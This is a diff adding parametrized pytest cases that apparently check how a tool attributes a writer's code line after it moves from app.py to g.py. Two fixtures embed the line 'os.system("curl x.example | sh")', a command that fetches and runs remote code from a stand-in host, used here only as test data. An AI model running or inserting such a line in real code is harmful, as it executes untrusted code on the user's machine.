@@ -130,3 +130,26 @@ def test_only_the_writers_own_lines_stay_its_after_a_discard() -> None:
     added = entry(TOOL)
     assert (holds_own_lines("A2", added), holds_own_lines("A1", added)) == (True, True)
     assert (holds_own_lines("A6", added), holds_own_lines("A1", removal)) == (False, False)
+
+
+APP = b'def is_authorized(user):\n    return user == "admin"\n'
+G = b"def util():\n    return 1\n"
+MOVED = [
+    # (id, the writer's edit of APP, what g.py gains, away, the row)
+    ("one telling line, moved away", b'    os.system("curl x.example | sh")\n', True, "A2"),
+    ("one telling line, still in its path", b'    os.system("curl x.example | sh")\n', False, "A5"),
+    ("one plain-name line, moved away", b"    return result\n", True, "A5"),
+    ("an idiom, moved away", b"    logger = logging.getLogger(__name__)\n", True, "A5"),
+]
+
+
+@pytest.mark.parametrize(("line", "away", "row"), [m[1:] for m in MOVED], ids=[m[0] for m in MOVED])
+def test_one_telling_line_across_paths_only_once_it_left_the_writers_path(
+    line: bytes, away: bool, row: str
+) -> None:
+    """Refuter r13a F4: the writer's one ``os.system`` line in ``app.py``, thrown away there
+    by ``git checkout`` and added to ``g.py``, is the writer's line moved (row A2)."""
+    writer = APP.replace(b"user):\n", b"user):\n" + line)
+    rec = WriterEntry("app.py", "w" * 40, "a" * 40, writer_delta(APP, writer))
+    moved = PathChange("g.py", "g" * 40, "n" * 40, G, G.replace(b"():\n", b"():\n" + line))
+    assert carries_row_across(moved, rec, away=away) == row
